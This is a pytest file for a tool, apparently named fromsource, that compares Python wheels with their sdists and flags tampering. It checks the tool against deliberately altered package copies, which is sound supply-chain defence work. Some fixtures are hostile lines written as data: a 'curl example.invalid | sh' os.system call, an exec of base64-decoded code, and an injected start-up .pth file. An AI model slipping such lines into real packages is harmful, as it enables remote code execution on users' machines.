"""inspect on the real wheel/sdist pairs of tests/data, and on tampered copies of them."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from fromsource.inspect import READABLE, Report, inspect_wheel
from fromsource.inspect.model import (
    CHANGE_CODE,
    CHANGE_CODE_MODULE,
    CHANGE_FORMATTING,
    CHANGE_LITERAL_MODULE,
    CHANGE_LITERALS,
    COMPILED,
    GENERATED,
    IDENTICAL,
    MODIFIED,
    OPAQUE,
    RELOCATED,
)
from inspect_helpers import pairs, read_wheel, tampered

PAIRS = pairs()
PURE = sorted(n for n in PAIRS if n not in {"markupsafe", "charset-normalizer"})
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57


def run(name: str) -> Report:
    wheel, sdist = PAIRS[name]
    return inspect_wheel(wheel, sdist)


def run_tampered(tmp_path: Path, name: str, change: Callable[[dict[str, bytes]], None], **kw: Any) -> Report:
    wheel, sdist = PAIRS[name]
    return inspect_wheel(tampered(wheel, tmp_path, change, **kw), sdist)


def _record_problems(report: Report) -> list[tuple[str, str]]:
    return [(f.path, f.message) for f in report.metadata.problems if f.rule == "record"]


def by_path(report: Report) -> dict[str, object]:
    return {f.path: f for f in report.files}


def test_every_pure_pair_is_known() -> None:
    assert set(PURE) >= {
        "flit-core", "packaging", "coherent.build", "six", "idna", "tomli", "attrs", "pluggy",
        "iniconfig",
    }  # fmt: skip


@pytest.mark.parametrize("name", PURE)
def test_pure_python_pairs_are_readable(name: str) -> None:
    report = run(name)
    assert report.verdict == READABLE, report.reasons
    assert report.reasons == ()
    assert report.metadata.problems == ()
    assert all(f.status in {IDENTICAL, RELOCATED} for f in report.files)
    assert report.wheel_sha256
    assert report.sdist_sha256


@pytest.mark.parametrize(
    ("name", "objects"),
    [
        ("markupsafe", ["markupsafe/_speedups.cpython-311-x86_64-linux-gnu.so"]),
        (
            "charset-normalizer",
            [
                "charset_normalizer/md.cpython-311-x86_64-linux-gnu.so",
                "charset_normalizer/md__mypyc.cpython-311-x86_64-linux-gnu.so",
            ],
        ),
    ],
)
def test_binary_wheels_are_not_readable_naming_their_objects(name: str, objects: list[str]) -> None:
    report = run(name)
    assert not report.readable
    compiled = sorted(f.path for f in report.files if f.status == COMPILED)
    assert compiled == objects
    for path in objects:
        assert any(path in reason and "compiled" in reason for reason in report.reasons)
    assert len(report.reasons) == len(objects)  # nothing else is wrong with them


def test_coherent_build_files_are_relocated() -> None:
    report = run("coherent.build")
    assert report.readable
    files = by_path(report)
    assert {f.status for f in report.files} == {RELOCATED}
    backend = files["coherent/build/backend.py"]
    assert backend.sdist_path == "backend.py"  # type: ignore[attr-defined]
    # system.toml has the same bytes as pyproject.toml: the same file name wins
    assert files["coherent/build/system.toml"].sdist_path == "system.toml"  # type: ignore[attr-defined]


def test_pluggy_version_module_comes_from_the_sdist() -> None:
    report = run("pluggy")
    assert by_path(report)["pluggy/_version.py"].status == IDENTICAL  # type: ignore[attr-defined]


# ------------------------------------------------------------------ tampered copies


def test_changed_line_with_record_updated_is_a_code_change(tmp_path: Path) -> None:
    def change(files: dict[str, bytes]) -> None:
        files["tomli/_parser.py"] = files["tomli/_parser.py"].replace(
            b"MAX_INLINE_NESTING: Final = sys.getrecursionlimit()",
            b"MAX_INLINE_NESTING: Final = sys.setrecursionlimit(10)",
        )

    report = run_tampered(tmp_path, "tomli", change)
    assert not report.readable
    parser = by_path(report)["tomli/_parser.py"]
    assert parser.status == MODIFIED  # type: ignore[attr-defined]
    assert parser.change == CHANGE_CODE  # type: ignore[attr-defined]
    assert "+MAX_INLINE_NESTING: Final = sys.setrecursionlimit(10)" in parser.diff  # type: ignore[attr-defined]
    assert report.reasons == (
        "tomli/_parser.py (from the sdist's src/tomli/_parser.py): modified, code changed",
    )
    assert report.metadata.problems == ()  # RECORD was updated to match


def test_added_pth_is_dangerous(tmp_path: Path) -> None:
    def change(files: dict[str, bytes]) -> None:
        files["tomli_init.pth"] = b"import tomli\n"

    report = run_tampered(tmp_path, "tomli", change)
    assert not report.readable
    assert [d.rule for d in report.dangerous if d.path == "tomli_init.pth"] == [
        "pth",
        "outside-namespace",
    ]
    assert any(".pth file: runs code at interpreter start-up" in r for r in report.reasons)


def test_added_shared_object_is_compiled(tmp_path: Path) -> None:
    def change(files: dict[str, bytes]) -> None:
        files["tomli/_speedups.cpython-311-x86_64-linux-gnu.so"] = ELF

    report = run_tampered(tmp_path, "tomli", change)
    assert not report.readable
    assert report.reasons == ("tomli/_speedups.cpython-311-x86_64-linux-gnu.so: compiled (ELF executable)",)


def test_elf_bytes_are_compiled_whatever_the_name(tmp_path: Path) -> None:
    def change(files: dict[str, bytes]) -> None:
        files["tomli/data.txt"] = ELF

    report = run_tampered(tmp_path, "tomli", change)
    assert by_path(report)["tomli/data.txt"].status == COMPILED  # type: ignore[attr-defined]
    assert not report.readable


def test_extra_requires_dist_is_a_metadata_difference(tmp_path: Path) -> None:
    def change(files: dict[str, bytes]) -> None:
        name = "tomli-2.2.1.dist-info/METADATA"
        files[name] = files[name].replace(
            b"Requires-Python: >=3.8\n", b"Requires-Python: >=3.8\nRequires-Dist: evil-helper>=1\n"
        )

    report = run_tampered(tmp_path, "tomli", change)
    assert not report.readable
    assert report.metadata.requires_dist_added == ("evil-helper>=1",)
    assert report.reasons == (
        "tomli-2.2.1.dist-info/METADATA: Requires-Dist differs from the sdist's PKG-INFO: + evil-helper>=1",
    )


def test_generated_module_running_os_system(tmp_path: Path) -> None:
    def change(files: dict[str, bytes]) -> None:
        files["tomli/_hook.py"] = b'import os\nos.system("curl example.invalid | sh")\n'

    report = run_tampered(tmp_path, "tomli", change)
    assert not report.readable
    hook = by_path(report)["tomli/_hook.py"]
    assert (hook.status, hook.change) == (GENERATED, CHANGE_CODE_MODULE)  # type: ignore[attr-defined]
    assert report.reasons == ("tomli/_hook.py: generated module holds code (not in the sdist)",)


def test_record_hash_mismatch(tmp_path: Path) -> None:
    wrong = "sha256=" + "A" * 43

    def change(files: dict[str, bytes]) -> None:
        name = "tomli-2.2.1.dist-info/RECORD"
        lines = files[name].decode().splitlines()
        lines = [
            f"tomli/_re.py,{wrong},{line.rsplit(',', 1)[1]}" if line.startswith("tomli/_re.py,") else line
            for line in lines
        ]
        files[name] = ("\n".join(lines) + "\n").encode()

    report = run_tampered(tmp_path, "tomli", change, update_record=False)
    assert not report.readable
    assert _record_problems(report) == [("tomli/_re.py", "sha256 differs from RECORD")]
    assert by_path(report)["tomli/_re.py"].status == IDENTICAL  # type: ignore[attr-defined]


def test_changed_file_with_stale_record(tmp_path: Path) -> None:
    def change(files: dict[str, bytes]) -> None:
        files["tomli/_types.py"] += b"# trailing comment\n"

    report = run_tampered(tmp_path, "tomli", change, update_record=False)
    assert not report.readable
    assert _record_problems(report) == [
        ("tomli/_types.py", "sha256 differs from RECORD"),
        ("tomli/_types.py", "size 273 differs from RECORD's 254"),
    ]
    assert len(report.reasons) == 2
    # the change itself is only a comment: readable on its own
    assert by_path(report)["tomli/_types.py"].change == CHANGE_FORMATTING  # type: ignore[attr-defined]


def test_unlisted_and_missing_record_entries(tmp_path: Path) -> None:
    def change(files: dict[str, bytes]) -> None:
        name = "tomli-2.2.1.dist-info/RECORD"
        files[name] = files[name].replace(b"tomli/_re.py,", b"tomli/_gone.py,")

    report = run_tampered(tmp_path, "tomli", change, update_record=False)
    assert sorted(_record_problems(report)) == [
        ("tomli/_gone.py", "listed in RECORD but not in the wheel"),
        ("tomli/_re.py", "in the wheel but not listed in RECORD"),
    ]
    assert len(report.reasons) == 2


def test_generated_literal_only_version_module_stays_readable(tmp_path: Path) -> None:
    def change(files: dict[str, bytes]) -> None:
        files["tomli/_version.py"] = (
            b"# file generated by setuptools_scm\n"
            b"TYPE_CHECKING = False\n"
            b"if TYPE_CHECKING:\n"
            b"    from typing import Tuple, Union\n"
            b"    VERSION_TUPLE = Tuple[Union[int, str], ...]\n"
            b"else:\n"
            b"    VERSION_TUPLE = object\n"
            b"version: str\n"
            b"__version_tuple__: VERSION_TUPLE\n"
            b'__version__ = version = "2.2.1"\n'
            b"__version_tuple__ = version_tuple = (2, 2, 1)\n"
        )

    report = run_tampered(tmp_path, "tomli", change)
    assert report.readable, report.reasons
    version = by_path(report)["tomli/_version.py"]
    assert (version.status, version.change) == (GENERATED, CHANGE_LITERAL_MODULE)  # type: ignore[attr-defined]


def test_changed_version_literal_is_readable_with_a_note(tmp_path: Path) -> None:
    def change(files: dict[str, bytes]) -> None:
        files["tomli/__init__.py"] = files["tomli/__init__.py"].replace(
            b'__version__ = "2.2.1"', b"__version__ = '2.2.1+local'"
        )

    report = run_tampered(tmp_path, "tomli", change)
    assert report.readable, report.reasons
    init = by_path(report)["tomli/__init__.py"]
    assert (init.status, init.change) == (MODIFIED, CHANGE_LITERALS)  # type: ignore[attr-defined]
    assert any("literal-values-only" in n for n in report.notes)


def test_exec_of_base64_in_a_module(tmp_path: Path) -> None:
    def change(files: dict[str, bytes]) -> None:
        files["tomli/_re.py"] += b"import base64\nexec(base64.b64decode(b'cHJpbnQoMSk='))\n"

    report = run_tampered(tmp_path, "tomli", change)
    assert not report.readable
    assert [(f.rule, f.path) for f in report.lint] == [("exec-decoded", "tomli/_re.py")]


def test_entry_point_naming_a_missing_module(tmp_path: Path) -> None:
    def change(files: dict[str, bytes]) -> None:
        files["tomli-2.2.1.dist-info/entry_points.txt"] = (
            b"[console_scripts]\ntoml = tomli.cli:main\nok = tomli:loads\n"
        )

    report = run_tampered(tmp_path, "tomli", change)
    assert not report.readable
    assert [d.message for d in report.dangerous] == [
        "[console_scripts] toml names module 'tomli.cli', which the sdist does not have"
    ]


def test_binary_script_and_opaque_data(tmp_path: Path) -> None:
    def change(files: dict[str, bytes]) -> None:
        files["tomli-2.2.1.data/scripts/tool"] = b"\x00\x01binary"
        files["tomli/blob.bin"] = bytes(range(256))

    report = run_tampered(tmp_path, "tomli", change)
    assert not report.readable
    assert [d.rule for d in report.dangerous] == ["binary-script"]
    blob = by_path(report)["tomli/blob.bin"]
    assert (blob.status, blob.sdist_path) == (OPAQUE, None)  # type: ignore[attr-defined]
    assert "tomli/blob.bin: opaque data absent from the sdist" in report.reasons


def _sdist_file(name: str, path: str) -> bytes:
    import tarfile

    _wheel, sdist = PAIRS[name]
    with tarfile.open(sdist) as archive:
        member = archive.extractfile(
            next(m for m in archive.getmembers() if m.name.split("/", 1)[-1] == path)
        )
        assert member is not None
        return member.read()


def test_shared_data_from_the_sdist_is_not_dangerous(tmp_path: Path) -> None:
    # What sympy's wheel does with its man page: the sdist's file, relocated under share/.
    def change(files: dict[str, bytes]) -> None:
        files["tomli-2.2.1.data/data/share/doc/tomli/LICENSE"] = _sdist_file("tomli", "LICENSE")
        files["tomli-2.2.1.data/data/share/man/man1/tomli.1"] = _sdist_file("tomli", "README.md")

    report = run_tampered(tmp_path, "tomli", change)
    assert report.readable, report.reasons
    man = by_path(report)["tomli-2.2.1.data/data/share/man/man1/tomli.1"]
    assert (man.status, man.sdist_path, man.scheme) == (RELOCATED, "README.md", "data")  # type: ignore[attr-defined]
    assert any(
        "installs under the prefix's share/, relocated from the sdist's README.md" in n for n in report.notes
    )


@pytest.mark.parametrize(
    ("member", "why"),
    [
        ("tomli-2.2.1.data/data/lib/python3.11/site-packages/tomli_extra.py", "lands on sys.path"),
        ("tomli-2.2.1.data/data/bin/tomli-tool", "lands on PATH"),
        (
            "tomli-2.2.1.data/data/etc/jupyter/jupyter_server_config.d/tomli.json",
            "configuration read at start-up",
        ),
        ("tomli-2.2.1.data/data/share/tomli.pth", "a .pth anywhere"),
    ],
)
def test_data_outside_share_stays_dangerous_even_from_the_sdist(
    tmp_path: Path, member: str, why: str
) -> None:
    def change(files: dict[str, bytes]) -> None:
        files[member] = _sdist_file("tomli", "src/tomli/_re.py")

    report = run_tampered(tmp_path, "tomli", change)
    assert not report.readable, why
    assert any(d.path == member for d in report.dangerous), (why, report.dangerous)


def test_shared_data_not_from_the_sdist_stays_dangerous(tmp_path: Path) -> None:
    def change(files: dict[str, bytes]) -> None:
        files["tomli-2.2.1.data/data/share/man/man1/tomli.1"] = b".TH TOMLI 1\nnot in the sdist\n"

    report = run_tampered(tmp_path, "tomli", change)
    assert not report.readable
    assert [d.rule for d in report.dangerous] == ["outside-namespace"]


def test_purelib_data_directory_maps_to_the_root(tmp_path: Path) -> None:
    def change(files: dict[str, bytes]) -> None:
        files["tomli-2.2.1.data/purelib/tomli/_re.py"] = files.pop("tomli/_re.py")

    report = run_tampered(tmp_path, "tomli", change)
    assert report.readable, report.reasons
    moved = by_path(report)["tomli-2.2.1.data/purelib/tomli/_re.py"]
    assert (moved.status, moved.install_path) == (IDENTICAL, "tomli/_re.py")  # type: ignore[attr-defined]


def test_every_reason_is_listed(tmp_path: Path) -> None:
    def change(files: dict[str, bytes]) -> None:
        files["tomli_init.pth"] = b"import tomli\n"
        files["tomli/x.so"] = ELF
        files["tomli/_hook.py"] = b"import os\nos.system('id')\n"

    report = run_tampered(tmp_path, "tomli", change)
    text = "\n".join(report.reasons)
    for expected in ("tomli/x.so: compiled", "_hook.py: generated module holds code", ".pth file"):
        assert expected in text


def test_relocated_module_with_a_changed_line_is_modified(tmp_path: Path) -> None:
    def change(files: dict[str, bytes]) -> None:
        name = "coherent/build/discovery.py"
        files[name] = files[name].replace(b"import", b"import os\nimport", 1)

    report = run_tampered(tmp_path, "coherent.build", change)
    discovery = by_path(report)["coherent/build/discovery.py"]
    assert (discovery.status, discovery.sdist_path) == (MODIFIED, "discovery.py")  # type: ignore[attr-defined]
    assert not report.readable


def test_report_round_trips_to_json() -> None:
    import json

    data = json.loads(json.dumps(run("coherent.build").to_dict()))
    assert data["verdict"] == "readable"
    assert data["counts"]["relocated"] == 7
    assert {f["status"] for f in data["files"]} == {"relocated"}
    assert read_wheel(PAIRS["coherent.build"][0])  # the fixture is intact


SYMPY = ("sympy-1.13.3-py3-none-any.whl", "sympy-1.13.3.tar.gz")
SHARED_PAIRS = Path(__file__).resolve().parents[1].parent / "shared" / "corpus" / "pairs"


def _assert_sympy_readable(wheel: Path, sdist: Path) -> None:
    # Its man page installs through .data/data/share (the sdist's doc/man/isympy.1, relocated),
    # and test_bbp_pi.py holds 8,337 hex digits of pi: neither is a reason.
    report = inspect_wheel(wheel, sdist)
    assert report.verdict == READABLE, report.reasons
    man = by_path(report)["sympy-1.13.3.data/data/share/man/man1/isympy.1"]
    assert (man.status, man.sdist_path) == (RELOCATED, "doc/man/isympy.1")  # type: ignore[attr-defined]
    assert report.metadata.unsettled == ()


@pytest.mark.skipif(
    not all((SHARED_PAIRS / n).is_file() for n in SYMPY),
    reason="sympy 1.13.3 is not in ../shared/corpus/pairs (too large for tests/data)",
)
def test_sympy_is_readable_from_the_shared_corpus() -> None:
    _assert_sympy_readable(SHARED_PAIRS / SYMPY[0], SHARED_PAIRS / SYMPY[1])


@pytest.mark.network
def test_sympy_is_readable(tmp_path: Path) -> None:
    from fromsource.index import SimpleIndex
    from fromsource.pipconfig import default_index_url

    with SimpleIndex(default_index_url()) as index:
        (sdist,) = [c for c in index.candidates("sympy") if str(c.version) == "1.13.3"]
        (wheel,) = [
            c
            for c in index.wheel_candidates("sympy")
            if str(c.version) == "1.13.3" and c.filename == SYMPY[0]
        ]
        _assert_sympy_readable(index.fetch_wheel(wheel, tmp_path), index.fetch(sdist, tmp_path))
